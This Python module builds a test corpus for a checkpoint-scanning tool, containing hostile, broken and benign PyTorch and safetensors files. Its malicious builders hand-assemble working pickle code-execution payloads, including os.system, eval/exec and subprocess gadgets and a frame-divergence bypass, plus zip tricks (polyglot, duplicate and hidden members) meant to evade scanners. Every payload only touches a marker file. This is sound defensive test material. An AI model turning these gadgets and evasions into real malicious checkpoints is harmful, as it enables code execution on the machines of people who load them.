"""Hostile / broken / benign checkpoint corpus, built byte by byte for the scan tests.

``build_corpus(directory)`` writes every sample and returns :class:`Sample` records saying what
the scan must report (``must_mention``) and what a loader would do. Pickles are hand-assembled
from opcodes and zip archives from ``struct`` records (starting from real ``torch.save``
output where the point is "a real checkpoint, patched"), so each sample contains exactly the
trick it is named after.

Every payload, were it ever executed, creates its own marker file (``MARKER_<name>``) next to
the sample; tests assert the markers never appear. Nothing here executes a payload.

Kinds:
  * ``malicious``  -- carries a payload; scan must say unsafe and name it.
  * ``broken``     -- damaged or inconsistent; scan raises a ckptdoctor error or reports anomalies.
  * ``benign``     -- real ``torch.save`` / safetensors output; scan must say safe.
  * ``not-weights-only`` -- legitimate content torch.load(weights_only=True) refuses (a pickled
    nn.Module, argparse.Namespace, TorchScript): unsafe but not dangerous.
"""

from __future__ import annotations

import argparse
import io
import json
import pickletools
import random
import shlex
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

# --------------------------------------------------------------------------------------------
# Sample record
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    """One corpus file (or directory) and what scanning it must produce.

    ``expect`` is ``"safe"`` (exit 0), ``"unsafe"`` (exit 1) or ``"error"`` (a ckptdoctor error,
    exit 2). ``must_mention`` is a global name, anomaly code or error-message fragment the
    report must contain. ``marker`` is the file the payload would create if it ever ran.
    ``torch_loads_weights_only`` is what ``torch.load(path, weights_only=True)`` does when the
    scan's answer and torch's legitimately differ (see docs/scan.md); None means "agrees with
    ``safe``".
    """

    name: str
    path: Path
    kind: str
    must_mention: str
    marker: Path | None
    expect: str
    torch_loads_weights_only: bool | None = None
    loader: str = "torch"  # "torch", "safetensors" or "none" (directories)
    also_mention: tuple[str, ...] = field(default=())

    @property
    def exit_code(self) -> int:
        return {"safe": 0, "unsafe": 1, "error": 2}[self.expect]


# --------------------------------------------------------------------------------------------
# Pickle assembly (protocol 2 unless stated)
# --------------------------------------------------------------------------------------------

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
MARK, STOP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, NEWOBJ, STACK_GLOBAL, MEMOIZE = b"R", b"b", b"\x81", b"\x93", b"\x94"
EMPTY_DICT, EMPTY_TUPLE, EMPTY_LIST, APPENDS, POP = b"}", b")", b"]", b"e", b"0"
INST, OBJ = b"i", b"o"


def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def uni(s: str) -> bytes:
    """BINUNICODE."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def short_uni(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def binbytes(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def touch_cmd(marker: Path) -> str:
    return "touch " + shlex.quote(str(marker))


def py_touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def call(module: str, name: str, *args: bytes) -> bytes:
    """``module.name(*args)`` via GLOBAL + MARK ... TUPLE + REDUCE (leaves the result on the stack)."""
    return glob(module, name) + MARK + b"".join(args) + TUPLE + REDUCE


def os_system_pickle(marker: Path) -> bytes:
    """The canonical payload: ``os.system("touch MARKER")``."""
    return PROTO2 + call("os", "system", uni(touch_cmd(marker))) + STOP


def frame_divergence_pickle(hidden: bytes) -> bytes:
    """fickling's frame-boundary divergence (test_bypasses.py, python/cpython#154848).

    A FRAME claims 2 bytes: the BINBYTES opcode and the first byte of its 4-byte size. A linear
    reader (pickletools, pickle.loads on bytes) takes the size as ``s0 + 256`` and swallows
    *hidden* as data. CPython's C unpickler before 3.13.15, reading a file object (torch.load
    reads data.pkl from an io.BytesIO), drops the rest of the frame when the size read does not
    fit in it and reads the size from the bytes after the frame: ``01 00 00 00`` = 1, one byte of
    data, then *hidden* runs as opcodes. CPython >= 3.13.15 and pickle._Unpickler refuse it.
    *hidden* must leave one value on the stack.
    """
    block_len = max(261, len(hidden) + 1)
    s0 = block_len - 254  # linear size s0 + 256 covers the 2 padding bytes and the block
    assert 0 <= s0 <= 255, "hidden payload too long for a one-byte size"
    return (
        b"\x80\x05"
        + b"N"
        + b"V" + b"a" * (8192 * 16 - 17) + b"\n"  # push the frame past a peek()ing reader's buffer
        + POP
        + MARK
        + b"\x95" + struct.pack("<Q", 2)  # FRAME of 2 bytes ...
        + b"B" + bytes([s0, 1, 0, 0])  # ... BINBYTES whose size field straddles the frame end
        + b"\x00\x00"
        + (hidden + MARK).ljust(block_len, b"N")
        + b"1"  # POP_MARK
        + STOP
    )  # fmt: skip


def unicode_line(s: str) -> bytes:
    """UNICODE (protocol 0): raw-unicode-escape text up to a newline."""
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


# --------------------------------------------------------------------------------------------
# Zip assembly
# --------------------------------------------------------------------------------------------


@dataclass
class ZipEntry:
    """One member; every field a hostile archive might lie about can be overridden."""

    name: str
    data: bytes
    local_name: str | None = None
    crc: int | None = None
    flags: int = 0
    method: int = 0  # 0 stored, 8 deflated
    local_sizes: tuple[int, int] | None = None  # (compressed, uncompressed) claimed locally
    offset_of: str | None = None  # central entry points at another member's local header


def build_zip(entries: list[ZipEntry], prefix: bytes = b"", trailing: bytes = b"") -> bytes:
    """Assemble a zip with ``struct``: local headers, central directory, end record.

    Offsets are relative to the start of the archive proper, as when a zip is appended to
    other bytes with ``cat`` (zipfile copes with that, see its ``concat`` logic).
    """
    body = bytearray()
    central = bytearray()
    offsets: dict[str, int] = {}
    for e in entries:
        payload = e.data
        if e.method == 8:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = c.compress(e.data) + c.flush()
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        csize, usize = len(payload), len(e.data)
        lcsize, lusize = e.local_sizes or (csize, usize)
        lname = (e.local_name or e.name).encode()
        offset = len(body)
        offsets.setdefault(e.name, offset)
        if e.offset_of is None:
            body += (
                struct.pack(
                    "<4sHHHHHIIIHH", b"PK\x03\x04", 20, e.flags, e.method, 0, 0x21, crc, lcsize, lusize, len(lname), 0
                )
                + lname
                + payload
            )
        else:
            offset = offsets[e.offset_of]
        name = e.name.encode()
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                e.flags,
                e.method,
                0,
                0x21,
                crc,
                csize,
                usize,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(body), 0)
    return prefix + bytes(body) + bytes(central) + eocd + trailing


def torch_members(obj: object, archive: str = "archive", **save_kw: object) -> list[ZipEntry]:
    """The members of a real ``torch.save`` archive, renamed under *archive*/."""
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **save_kw)  # type: ignore[arg-type]
    out = []
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        for info in z.infolist():
            rest = info.filename.split("/", 1)[1]
            out.append(ZipEntry(f"{archive}/{rest}", z.read(info)))
    return out


def inject(pkl: bytes, payload_ops: bytes) -> bytes:
    """Run *payload_ops* (which leave one value) first, POP it, then the original pickle body:
    a loader with weights_only=False both executes the payload and returns the real object."""
    assert pkl[:1] == b"\x80"
    return pkl[:2] + payload_ops + POP + pkl[2:]


def split_pickles(data: bytes, count: int) -> tuple[list[bytes], bytes]:
    """Split the first *count* concatenated pickles off *data* (legacy torch.save layout)."""
    parts = []
    pos = 0
    for _ in range(count):
        end = None
        for op, _arg, p in pickletools.genops(data[pos:]):
            if op.name == "STOP":
                end = pos + (p or 0) + 1
        assert end is not None
        parts.append(data[pos:end])
        pos = end
    return parts, data[pos:]


def _small_state() -> dict[str, object]:
    import torch

    torch.manual_seed(0)
    return {"layer.weight": torch.randn(3, 4), "layer.bias": torch.zeros(3)}


# --------------------------------------------------------------------------------------------
# The samples
# --------------------------------------------------------------------------------------------

Builder = Callable[[Path, Path], bytes]


def _malicious_pickles() -> dict[str, tuple[str, Builder]]:
    """name -> (must_mention, builder(sample_path, marker) -> file bytes)."""

    def getattr_gadget(_p: Path, m: Path) -> bytes:
        # getattr(__import__("os"), "system")("touch MARKER")
        imp = call("builtins", "__import__", uni("os"))
        get = glob("builtins", "getattr") + MARK + imp + uni("system") + TUPLE + REDUCE
        return PROTO2 + get + MARK + uni(touch_cmd(m)) + TUPLE + REDUCE + STOP

    def stack_global_dotted(_p: Path, m: Path) -> bytes:
        # pathlib imports os, so find_class("pathlib", "os.system") is os.system (protocol 4).
        return (
            PROTO4
            + short_uni("pathlib")
            + MEMOIZE
            + short_uni("os.system")
            + MEMOIZE
            + STACK_GLOBAL
            + MEMOIZE
            + short_uni(touch_cmd(m))
            + MEMOIZE
            + TUPLE1
            + REDUCE
            + STOP
        )

    def stack_global_memo(_p: Path, m: Path) -> bytes:
        # The names sit in a harmless-looking list first; STACK_GLOBAL later fetches them from
        # the memo, so the module/name strings are never adjacent to the STACK_GLOBAL opcode.
        decoy = EMPTY_LIST + MARK + short_uni("os") + binput(1) + short_uni("system") + binput(2) + APPENDS + POP
        return PROTO4 + decoy + binget(1) + binget(2) + STACK_GLOBAL + short_uni(touch_cmd(m)) + TUPLE1 + REDUCE + STOP

    def subprocess_popen(_p: Path, m: Path) -> bytes:
        argv = EMPTY_LIST + MARK + uni("touch") + uni(str(m)) + APPENDS
        return PROTO2 + call("subprocess", "Popen", argv) + STOP

    def inst_variant(_p: Path, m: Path) -> bytes:
        # protocol 0 INST: MARK args INST module name -> module.name(*args)
        return b"(V" + touch_cmd(m).encode("raw_unicode_escape") + b"\nios\nsystem\n."

    def obj_variant(_p: Path, m: Path) -> bytes:
        # protocol 1 OBJ: MARK cls args OBJ -> cls(*args)
        return MARK + glob("os", "system") + uni(touch_cmd(m)) + OBJ + STOP

    def newobj_partial(_p: Path, m: Path) -> bytes:
        # NEWOBJ calls functools.partial.__new__(partial, os.system, cmd), which builds the
        # partial in C; REDUCE then calls it with ().
        made = glob("functools", "partial") + glob("os", "system") + uni(touch_cmd(m)) + TUPLE2 + NEWOBJ
        return PROTO2 + made + EMPTY_TUPLE + REDUCE + STOP

    def partial_reduce(_p: Path, m: Path) -> bytes:
        made = call("functools", "partial", glob("builtins", "exec"), uni(py_touch(m)))
        return PROTO2 + made + EMPTY_TUPLE + REDUCE + STOP

    def ext_opcode(_p: Path, m: Path) -> bytes:
        # EXT1 0x7f: whatever the loader registered with copyreg.add_extension(..., 0x7f).
        return PROTO2 + b"\x82\x7f" + uni(touch_cmd(m)) + TUPLE1 + REDUCE + STOP

    def nested_load_from_bytes(_p: Path, m: Path) -> bytes:
        inner = os_system_pickle(m)
        return PROTO2 + call("torch.storage", "_load_from_bytes", binbytes(inner)) + STOP

    def torch_gadget(_p: Path, m: Path) -> bytes:
        # torch/jit/unsupported_tensor_ops.py: def execWrapper(code, glob, loc): exec(code, glob, loc)
        args = uni(py_touch(m)) + EMPTY_DICT + EMPTY_DICT + TUPLE3
        return PROTO2 + glob("torch.jit.unsupported_tensor_ops", "execWrapper") + args + REDUCE + STOP

    def proto0_text(_p: Path, m: Path) -> bytes:
        return b"cos\nsystem\n(S'" + touch_cmd(m).encode() + b"'\ntR."

    def frame_divergence(_p: Path, m: Path) -> bytes:
        return frame_divergence_pickle(glob("os", "system") + unicode_line(touch_cmd(m)) + TUPLE1 + REDUCE)

    return {
        "frame_divergence": ("frame-violation", frame_divergence),
        "os_system_reduce": ("os.system", lambda _p, m: os_system_pickle(m)),
        "posix_system": ("posix.system", lambda _p, m: PROTO2 + call("posix", "system", uni(touch_cmd(m))) + STOP),
        "builtins_eval": ("builtins.eval", lambda _p, m: PROTO2 + call("builtins", "eval", uni(py_touch(m))) + STOP),
        # __builtin__ is renamed to builtins by pickle's fix_imports, so this runs exec too.
        "builtins_exec_py2_name": (
            "builtins.exec",
            lambda _p, m: PROTO2 + call("__builtin__", "exec", uni(py_touch(m))) + STOP,
        ),
        "getattr_gadget": ("builtins.getattr", getattr_gadget),
        "subprocess_popen": ("subprocess.Popen", subprocess_popen),
        "stack_global_dotted": ("pathlib.os.system", stack_global_dotted),
        "stack_global_memo": ("os.system", stack_global_memo),
        "inst_variant": ("os.system", inst_variant),
        "obj_variant": ("os.system", obj_variant),
        "newobj_partial": ("functools.partial", newobj_partial),
        "partial_reduce": ("functools.partial", partial_reduce),
        "ext_opcode": ("extension-code", ext_opcode),
        "nested_load_from_bytes": ("os.system", nested_load_from_bytes),
        "torch_gadget": ("torch.jit.unsupported_tensor_ops.execWrapper", torch_gadget),
        "proto0_text": ("os.system", proto0_text),
    }


def _malicious_archives() -> dict[str, tuple[str, Builder]]:
    """Payloads hidden in real torch.save output by archive-level tricks."""

    def payload_ops(m: Path) -> bytes:
        return call("os", "system", uni(touch_cmd(m)))

    def patched(members: list[ZipEntry], m: Path, *, replace: bool = True) -> list[ZipEntry]:
        out = []
        for e in members:
            if e.name.endswith("/data.pkl") and replace:
                e = ZipEntry(e.name, inject(e.data, payload_ops(m)))
            out.append(e)
        return out

    def zip_patched(_p: Path, m: Path) -> bytes:
        return build_zip(patched(torch_members(_small_state()), m))

    def zip_duplicate(_p: Path, m: Path) -> bytes:
        members = torch_members(_small_state())
        evil = ZipEntry("archive/data.pkl", inject(members[0].data, payload_ops(m)))
        return build_zip([*members, evil])

    def zip_name_mismatch(_p: Path, m: Path) -> bytes:
        members = patched(torch_members(_small_state()), m)
        members[0].local_name = "archive/data.txt"  # a local-header scanner skips "non-pickles"
        return build_zip(members)

    def zip_bad_crc(_p: Path, m: Path) -> bytes:
        members = patched(torch_members(_small_state()), m)
        members[0].crc = zlib.crc32(members[0].data) ^ 0xDEADBEEF
        return build_zip(members)

    def zip_encrypted_flag(_p: Path, m: Path) -> bytes:
        members = patched(torch_members(_small_state()), m)
        members[0].flags |= 1
        return build_zip(members)

    def zip_polyglot(_p: Path, m: Path) -> bytes:
        # torch.load sees a pickle (its _is_zipfile checks the first 4 bytes) and runs it;
        # zipfile and zip-based scanners see a clean torch.save archive.
        return build_zip(torch_members(_small_state()), prefix=os_system_pickle(m))

    def zip_outside_prefix(_p: Path, m: Path) -> bytes:
        return build_zip([*torch_members(_small_state()), ZipEntry("other/data.pkl", os_system_pickle(m))])

    def zip_deflated(_p: Path, m: Path) -> bytes:
        members = patched(torch_members(_small_state()), m)
        members[0].method = 8
        return build_zip(members)

    def zip_lying_sizes(_p: Path, m: Path) -> bytes:
        members = patched(torch_members(_small_state()), m)
        members[0].local_sizes = (7, 7)
        return build_zip(members)

    def zip_frame_divergence(_p: Path, m: Path) -> bytes:
        hidden = glob("os", "system") + unicode_line(touch_cmd(m)) + TUPLE1 + REDUCE
        members = torch_members(_small_state())
        members[0] = ZipEntry(members[0].name, frame_divergence_pickle(hidden))
        return build_zip(members)

    def zip_hidden_pickle(_p: Path, m: Path) -> bytes:
        return build_zip([*torch_members(_small_state()), ZipEntry("archive/extra/notes", os_system_pickle(m))])

    def legacy_later_pickle(_p: Path, m: Path) -> bytes:
        import torch

        buf = io.BytesIO()
        torch.save(_small_state(), buf, _use_new_zipfile_serialization=False)
        parts, storages = split_pickles(buf.getvalue(), 5)
        parts[4] = inject(parts[4], payload_ops(m))  # the storage-keys pickle
        return b"".join(parts) + storages

    return {
        "zip_patched_data_pkl": ("os.system", zip_patched),
        "zip_duplicate_data_pkl": ("duplicate-member", zip_duplicate),
        "zip_name_mismatch": ("name-mismatch", zip_name_mismatch),
        "zip_bad_crc": ("crc-mismatch", zip_bad_crc),
        "zip_encrypted_flag": ("encrypted-member", zip_encrypted_flag),
        "zip_polyglot": ("polyglot", zip_polyglot),
        "zip_outside_prefix": ("outside-prefix", zip_outside_prefix),
        "zip_deflated": ("compressed-member", zip_deflated),
        "zip_lying_sizes": ("size-mismatch", zip_lying_sizes),
        "zip_hidden_pickle": ("hidden-pickle", zip_hidden_pickle),
        "zip_frame_divergence": ("frame-violation", zip_frame_divergence),
        "legacy_later_pickle": ("legacy pickle #5 (storage keys)", legacy_later_pickle),
    }


def _safetensors_bytes(header: dict[str, object], data: bytes, declared_len: int | None = None) -> bytes:
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h) if declared_len is None else declared_len) + h + data


def _broken() -> dict[str, tuple[str, str, Builder]]:
    """name -> (expect, must_mention, builder). Nothing here carries a payload."""

    def truncated_zip(_p: Path, _m: Path) -> bytes:
        z = build_zip(torch_members(_small_state()))
        return z[: len(z) // 2]

    def truncated_pickle(_p: Path, _m: Path) -> bytes:
        good = PROTO2 + EMPTY_DICT + uni("epoch") + b"K\x03" + b"s" + STOP
        return good[:-4]

    def random_bytes(_p: Path, _m: Path) -> bytes:
        rng = random.Random(1234)
        data = bytes(rng.getrandbits(8) for _ in range(4096))
        return b"\x07" + data  # not a pickle/zip/safetensors opener; not UTF-8 either

    def overlapping_members(_p: Path, _m: Path) -> bytes:
        members = torch_members(_small_state())
        return build_zip([*members, ZipEntry("archive/alias.pkl", b"", offset_of="archive/data.pkl")])

    f32 = struct.pack("<4f", 1, 2, 3, 4)
    return {
        "memo_bomb": ("unsafe", "memo-index", lambda _p, _m: PROTO2 + EMPTY_LIST + b"r\xf0\xff\xff\xff" + STOP),
        "deep_nesting": ("unsafe", "deep-nesting", lambda _p, _m: PROTO2 + (MARK + EMPTY_LIST) * 100_000 + STOP),
        "huge_binbytes8": (
            "unsafe",
            "truncated-pickle",
            lambda _p, _m: PROTO4 + b"\x8e" + struct.pack("<Q", 1 << 62) + b"abc" + STOP,
        ),
        "unknown_opcode": ("unsafe", "unknown-opcode", lambda _p, _m: PROTO2 + EMPTY_DICT + b"\xff" + STOP),
        "protocol_99": ("unsafe", "unsupported-protocol", lambda _p, _m: b"\x80\x05" + b"\x80\x63" + b"N" + STOP),
        "memo_get_missing": ("unsafe", "memo-missing", lambda _p, _m: PROTO2 + binget(7) + STOP),
        "truncated_pickle": ("unsafe", "truncated-pickle", truncated_pickle),
        "truncated_zip": ("error", "end-of-central-directory", truncated_zip),
        "overlapping_members": ("unsafe", "overlapping-members", overlapping_members),
        "zip_trailing_bytes": (
            "unsafe",
            "trailing-bytes",
            lambda _p, _m: build_zip(torch_members(_small_state()), trailing=b"x" * 100),
        ),
        "empty_file": ("error", "empty", lambda _p, _m: b""),
        "random_bytes": ("error", "unrecognised", random_bytes),
        "text_file": ("error", "text", lambda _p, _m: b"model:\n  layers: 12\n  hidden: 768\n"),
        "st_header_too_long": (
            "error",
            "exceeds the file size",
            lambda _p, _m: _safetensors_bytes(
                {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, f32, declared_len=10_000
            ),
        ),
        "st_bad_json": ("error", "not valid JSON", lambda _p, _m: struct.pack("<Q", 12) + b'{"a": [1, 2' + b" " + f32),
        "st_overlap": (
            "unsafe",
            "overlapping-tensors",
            lambda _p, _m: _safetensors_bytes(
                {
                    "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                    "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]},
                },
                f32,
            ),
        ),
        "st_out_of_range": (
            "unsafe",
            "offset-out-of-range",
            lambda _p, _m: _safetensors_bytes({"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, f32),
        ),
    }


# --------------------------------------------------------------------------------------------
# Benign fixtures (real torch.save / safetensors output)
# --------------------------------------------------------------------------------------------

ALL_DTYPES = (
    "float32",
    "float64",
    "float16",
    "bfloat16",
    "complex32",
    "complex64",
    "complex128",
    "bool",
    "int8",
    "int16",
    "int32",
    "int64",
    "uint8",
    "uint16",
    "uint32",
    "uint64",
    "float8_e4m3fn",
    "float8_e5m2",
    "float8_e4m3fnuz",
    "float8_e5m2fnuz",
    "float8_e8m0fnu",
    "float4_e2m1fn_x2",
    "bits8",
)


def benign_objects() -> dict[str, Callable[[], object]]:
    """name -> factory of an object every torch.load(weights_only=True) accepts."""
    import torch
    from torch import nn

    def all_dtypes() -> object:
        return {f"t_{d}": torch.zeros(3, dtype=getattr(torch, d)) for d in ALL_DTYPES}

    def params_views_tied() -> object:
        w = torch.randn(4, 4)
        p = nn.Parameter(torch.randn(2, 3))
        return {
            "param": p,
            "frozen": nn.Parameter(torch.ones(2), requires_grad=False),
            "view": w[1:3, ::2],
            "t1": w,
            "t2": w,
            "scalar": torch.tensor(3.5),
            "empty": torch.empty(0, 5),
        }

    def model_and_opt() -> tuple[nn.Module, torch.optim.Optimizer]:
        torch.manual_seed(0)
        model = nn.Sequential(nn.Conv2d(3, 4, 3), nn.BatchNorm2d(4), nn.ReLU(), nn.Flatten(), nn.LazyLinear(2))
        model(torch.randn(2, 3, 8, 8))
        opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
        model(torch.randn(2, 3, 8, 8)).sum().backward()
        opt.step()
        return model, opt

    def training() -> object:
        model, opt = model_and_opt()
        return {
            "epoch": 3,
            "model_state_dict": model.state_dict(),
            "optimizer_state_dict": opt.state_dict(),
            "loss": 0.25,
            "rng_state": torch.get_rng_state(),
            "best": (1, 2.0, "x", None, True),
        }

    def lightning() -> object:
        model, opt = model_and_opt()
        return {
            "epoch": 9,
            "global_step": 1234,
            "pytorch-lightning_version": "2.4.0",
            "state_dict": {f"model.{k}": v for k, v in model.state_dict().items()},
            "optimizer_states": [opt.state_dict()],
            "lr_schedulers": [{"base_lrs": [0.001], "last_epoch": 9, "_step_count": 10}],
            "hyper_parameters": {"lr": 1e-3, "layers": [64, 64], "name": "net", "dropout": 0.1, "ema": None},
            "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"total": {"ready": 10}}}},
            "callbacks": {"ModelCheckpoint{'monitor': 'val_loss'}": {"best_model_score": torch.tensor(0.1)}},
        }

    def timm() -> object:
        model, _ = model_and_opt()
        sd = model.state_dict()
        return {
            "state_dict": sd,
            "state_dict_ema": {k: v.clone() for k, v in sd.items()},
            "epoch": 42,
            "arch": "resnet18",
            "metric": 0.77,
        }

    def module_state() -> object:
        model, _ = model_and_opt()
        return model.state_dict()

    return {
        "all_dtypes": all_dtypes,
        "params_views_tied": params_views_tied,
        "training_ckpt": training,
        "lightning_ckpt": lightning,
        "timm_ckpt": timm,
        "module_state_dict": module_state,
    }


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def build_benign(directory: Path) -> list[Sample]:
    """Real torch.save (zip, protocol 4, legacy) and safetensors files, plus checkpoint dirs."""
    import torch
    from safetensors.torch import save_file

    d = Path(directory)
    d.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []

    def add(name: str, path: Path, **kw: object) -> None:
        out.append(Sample(name, path, "benign", "", None, "safe", **kw))  # type: ignore[arg-type]

    for name, factory in benign_objects().items():
        torch.save(factory(), d / f"{name}.pt")
        add(name, d / f"{name}.pt")
    torch.save(benign_objects()["params_views_tied"](), d / "legacy.pt", _use_new_zipfile_serialization=False)
    add("legacy_format", d / "legacy.pt")
    torch.save(benign_objects()["module_state_dict"](), d / "weights.bin")
    add("bin_extension", d / "weights.bin")

    st = {
        "f32": torch.randn(3, 4),
        "bf16": torch.ones(2, dtype=torch.bfloat16),
        "i64": torch.arange(5),
        "u8": torch.zeros(7, dtype=torch.uint8),
        "b": torch.tensor([True, False]),
        "f8": torch.zeros(3, dtype=torch.float8_e4m3fn),
        "empty": torch.zeros(0, 3),
    }
    save_file(st, str(d / "model.safetensors"), metadata={"format": "pt"})
    add("safetensors", d / "model.safetensors", loader="safetensors")

    shard_dir = d / "sharded_ok"
    shard_dir.mkdir(exist_ok=True)
    save_file({"a": torch.zeros(2)}, str(shard_dir / "model-00001-of-00002.safetensors"))
    save_file({"b": torch.ones(2)}, str(shard_dir / "model-00002-of-00002.safetensors"))
    (shard_dir / "model.safetensors.index.json").write_text(
        json.dumps(
            {
                "metadata": {"total_size": 16},
                "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"},
            }
        )
    )
    (shard_dir / "config.json").write_text("{}")
    add("sharded_dir", shard_dir, loader="none")
    return out


def build_not_weights_only(directory: Path) -> list[Sample]:
    """Legitimate files that are not weights_only-loadable: unsafe, but nothing dangerous."""
    import torch
    from torch import nn

    d = Path(directory)
    out = []
    torch.save(nn.Sequential(nn.Linear(2, 3), nn.ReLU()), d / "whole_module.pt")
    out.append(
        Sample(
            "whole_module", d / "whole_module.pt", "not-weights-only", "torch.nn.modules.linear.Linear", None, "unsafe"
        )
    )
    sd = benign_objects()["module_state_dict"]()
    torch.save(
        {"state_dict": sd, "epoch": 1, "args": argparse.Namespace(lr=0.1, model="resnet18")},
        d / "timm_with_args.pth.tar",
    )
    out.append(
        Sample(
            "argparse_namespace", d / "timm_with_args.pth.tar", "not-weights-only", "argparse.Namespace", None, "unsafe"
        )
    )
    torch.save(benign_objects()["training_ckpt"](), d / "protocol4.pt", pickle_protocol=4)
    # torch's weights_only unpickler does not implement protocol 4 opcodes (FRAME,
    # SHORT_BINUNICODE, ...): it refuses the file although nothing in it is hostile.
    out.append(Sample("protocol4", d / "protocol4.pt", "not-weights-only", "weights-only-refused", None, "unsafe"))
    scripted = torch.jit.script(nn.Linear(2, 2))
    torch.jit.save(scripted, str(d / "scripted.pt"))
    out.append(Sample("torchscript", d / "scripted.pt", "not-weights-only", "torchscript", None, "unsafe"))
    import torch.distributed.checkpoint as dcp

    dcp.save({"w": torch.zeros(3), "step": 7}, checkpoint_id=str(d / "dcp_checkpoint"))
    out.append(
        Sample(
            "dcp_directory",
            d / "dcp_checkpoint",
            "not-weights-only",
            "torch.distributed.checkpoint.metadata.Metadata",
            None,
            "unsafe",
            loader="none",
        )
    )
    return out


def build_corpus(directory: Path) -> list[Sample]:
    """Write every sample into *directory* and return their records (benign ones included)."""
    with warnings.catch_warnings():
        # torch warns while building fixtures (complex32 is experimental, DCP without a process
        # group, TorchScript deprecations); pytest runs with warnings as errors.
        warnings.simplefilter("ignore")
        return _build_corpus(Path(directory))


def _build_corpus(d: Path) -> list[Sample]:
    d.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    for name, (mention, builder) in {**_malicious_pickles(), **_malicious_archives()}.items():
        marker = d / f"MARKER_{name}"
        path = d / f"{name}.pt"
        _write(path, builder(path, marker))
        extra: dict[str, object] = {}
        if name == "zip_duplicate_data_pkl":
            # miniz resolves the name to the first (benign) copy, so torch.load(weights_only=True)
            # succeeds; zipfile-based tools read the second, malicious one. Scan flags both.
            extra["torch_loads_weights_only"] = True
        if name == "zip_hidden_pickle":
            # torch itself never unpickles archive/extra/notes; zip-walking tools and
            # torch.package-style loaders might. A pickle under a non-.pkl name is the red flag.
            extra["torch_loads_weights_only"] = True
        out.append(Sample(name, path, "malicious", mention, marker, "unsafe", **extra))  # type: ignore[arg-type]
    for name, (expect, mention, builder) in _broken().items():
        suffix = ".safetensors" if name.startswith("st_") else ".pt"
        path = _write(d / f"{name}{suffix}", builder(d / name, d / "unused"))
        loader = "safetensors" if name.startswith("st_") else "torch"
        out.append(Sample(name, path, "broken", mention, None, expect, loader=loader))

    escape = d / "sharded_escape"
    escape.mkdir(exist_ok=True)
    _write(
        d / "outside.safetensors",
        _safetensors_bytes({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0\0\0\0"),
    )
    _write(
        escape / "model-00001-of-00001.safetensors",
        _safetensors_bytes({"v": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0\0\0\0"),
    )
    (escape / "model.safetensors.index.json").write_text(
        json.dumps(
            {"metadata": {}, "weight_map": {"v": "model-00001-of-00001.safetensors", "w": "../outside.safetensors"}}
        )
    )
    out.append(
        Sample("sharded_index_escape", escape, "broken", "shard-outside-directory", None, "unsafe", loader="none")
    )
    out.extend(build_not_weights_only(d))
    out.extend(build_benign(d / "benign"))
    return out
